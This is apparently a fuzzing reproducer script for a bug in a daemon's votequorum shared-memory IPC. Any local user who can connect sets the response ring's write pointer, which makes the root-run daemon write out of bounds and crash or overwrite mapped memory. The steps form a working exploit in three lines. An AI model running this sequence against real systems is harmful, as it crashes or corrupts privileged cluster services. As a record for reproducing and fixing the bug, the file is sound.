"""A client moves the response ring's write pointer: the daemon writes its answer there, and dies of SIGSEGV.

Class: memory corruption; a write by the daemon, which runs as root, at an offset of the client's choice up to
16 GiB behind the ring, of a response. Where something is mapped there, nothing dies and that is overwritten.
Reach: any user who may connect. Configuration: shared memory, the default on Linux; the event ring likewise.
Cost: one connection, one store, one request.
Last words: none in the log. strace: --- SIGSEGV {si_signo=SIGSEGV, si_code=SEGV_MAPERR, ...} ---
"""

from __future__ import annotations

from fuzz.reproduce import reproduce
from votequorum_ipc.attack import Connect, Poke, Send
from votequorum_ipc.wire import votequorum

TRANSPORTS = ("shm",)
OUTCOME = "dies"

STEPS = (
    Connect(0, "votequorum"),
    Poke(0, "response", "write_pt", 0x3FFFFFFF),
    Send(0, votequorum.GETINFO.encode(nodeid=0)),
)

if __name__ == "__main__":
    reproduce(STEPS, __doc__)
